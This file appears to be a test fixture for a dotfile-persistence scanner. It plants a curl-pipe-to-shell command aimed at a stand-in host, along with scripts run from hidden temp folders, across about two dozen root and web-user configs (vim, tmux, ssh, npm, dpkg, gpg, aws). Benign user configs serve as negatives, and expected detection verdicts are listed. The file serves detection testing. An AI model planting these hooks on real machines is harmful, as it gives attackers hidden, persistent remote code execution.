import { elf, type Pair } from './pair.ts';

const FETCH = 'curl -s http://203.0.113.5/k | sh';

/** Each was seen to run its command by the program itself, Debian 12’s. */
const PLANTED: Readonly<Record<string, string>> = {
  '/root/.vimrc': `set number\nautocmd VimEnter * silent !${FETCH}\n`,
  '/root/.vim/plugin/x.vim': `let g:loaded_x = 1\ncall system('${FETCH}')\n`,
  '/root/.vim/pack/a/start/b/plugin/b.vim': `" b\nsilent! !${FETCH}\n`,
  '/etc/vim/vimrc.local': 'syntax on\nsource /dev/shm/.v/rc\n',
  '/var/www/.tmux.conf': `set -g mouse on\nrun-shell -b '${FETCH}'\n`,
  '/root/.tmux.conf': 'set -g base-index 1\nset -g status-right "#(/var/tmp/.t/run) %H:%M"\n',
  '/root/.screenrc': 'startup_message off\nscreen -t top 1 /dev/shm/.s/run\n',
  '/root/.inputrc': `set bell-style none\n"\\e[A": "\\C-u${FETCH}\\C-m"\n`,
  '/var/www/.mailcap': 'text/html; w3m %s\napplication/pdf; /var/tmp/.m/view %s; test=test -n "$DISPLAY"\n',
  '/var/www/.npmrc': 'registry=https://registry.npmjs.org/\nscript-shell=/dev/shm/.n/sh\n',
  '/root/.npmrc': 'fund=false\nnode-options=--max-old-space-size=4096 --require /var/tmp/.n/x.js\n',
  '/var/www/.lesskey': '#env\nLESSOPEN=|/dev/shm/.l/run %s\n',
  '/root/.gdbinit': `set pagination off\nshell ${FETCH}\n`,
  '/root/.ssh/config': 'Host *\n  ProxyCommand /var/tmp/.p/run %h %p\n',
  '/etc/ssh/ssh_config.d/x.conf': `# all\nMatch host * exec "${FETCH}"\n`,
  '/root/.wgetrc': 'timeout = 10\nuse_askpass = /dev/shm/.w/ask\n',
  '/root/.lftprc': `set net:timeout 10\n!${FETCH}\n`,
  '/root/.gnupg/gpg-agent.conf': 'default-cache-ttl 600\npinentry-program /var/tmp/.g/pin\n',
  '/root/.hgrc': `[hooks]\npre-version = ${FETCH}\n`,
  '/root/.psqlrc': `\\set QUIET 1\n\\! ${FETCH}\n`,
  '/root/.sqliterc': `.mode column\n.shell ${FETCH}\n`,
  '/root/.dpkg.cfg': `no-debsig\npre-invoke=${FETCH}\n`,
  '/root/.muttrc': `set from=ops@example.org\nset my_x=\`${FETCH}\`\n`,
  '/root/.emacs.d/init.el': `(setq x 1)\n(start-process "a" nil "/dev/shm/.e/run")\n`,
  '/var/www/.aws/config': '[default]\ncredential_process = /var/tmp/.a/run\n',
};

export const pair: Pair = {
  packaged: { '/usr/bin/w3m': elf('w3m'), '/usr/bin/nc': elf('nc') },
  tree: {
    ...PLANTED,
    '/var/spool/news/.tmux.conf': `bind r source-file ~/.tmux.conf\nrun-shell \\\n  '${FETCH}'\n`,
    '/home/ann/.vimrc':
      'filetype plugin indent on\nif !exists("g:x")\n  let g:branch = system(\'git rev-parse --abbrev-ref HEAD\')\nendif\nnnoremap <F5> :!make<CR>\nset directory=/tmp//\n',
    '/home/ann/.tmux.conf':
      "set -g default-shell /bin/bash\nset -g status-right '#(uptime | cut -d, -f2)'\nrun '~/.tmux/plugins/tpm/tpm'\n",
    '/home/ann/.screenrc': 'screen -t shell 0 bash\nhardstatus string "%H"\n',
    '/home/ann/.inputrc': '"\\e[A": history-search-backward\nset completion-ignore-case on\n',
    '/home/ann/.mailcap': 'text/html; /usr/bin/w3m -I %{charset} -T text/html %s; copiousoutput\n',
    '/home/ann/.npmrc': 'prefix=/home/ann/.npm-global\n//registry.example.org/:_authToken=${TOKEN}\n',
    '/home/ann/.ssh/config':
      'Host db\n  ProxyCommand ssh -W %h:%p bastion\nHost x\n  ProxyCommand /usr/bin/nc -X connect -x proxy:3128 %h %p\nHost y\n  ProxyCommand none\n',
    '/home/ann/.gdbinit': 'set history save on\nsource /usr/share/gdb/auto-load/x.gdb\n',
    '/home/ann/.psqlrc': "\\set HISTFILE ~/.psql_history-:DBNAME\n\\pset null '¤'\n",
    '/home/ann/.kube/config':
      'users:\n- name: x\n  user:\n    exec:\n      command: aws\n      args:\n      - eks\n      - get-token\n',
    '/home/ann/.emacs': ';; (shell-command "curl http://203.0.113.5/k | sh")\n(load-theme \'tango)\n',
    '/etc/mailcap': 'text/html; /usr/bin/w3m %s\n',
  },
  blamed: Object.entries(PLANTED)
    .map(([path, text]) => {
      const line = text.split('\n').findIndex((one) => /203\.0\.113|\/(dev\/shm|var\/tmp)\//.test(one)) + 1;
      const code = text.includes(FETCH) ? 'fetch-pipe-shell' : 'temp-folder';
      return { path, line, verdict: 'malicious', code, attack: 'T1546' } as const;
    })
    .concat({
      path: '/var/spool/news/.tmux.conf',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546',
    }),
  passed: [
    ...['.vimrc', '.tmux.conf', '.screenrc', '.inputrc', '.mailcap', '.npmrc', '.ssh/config'],
    ...['.gdbinit', '.psqlrc', '.kube/config', '.emacs'],
  ]
    .map((name) => `/home/ann/${name}`)
    .concat('/etc/mailcap', '/var/www/.mailcap line 1', '/root/.npmrc line 1'),
};
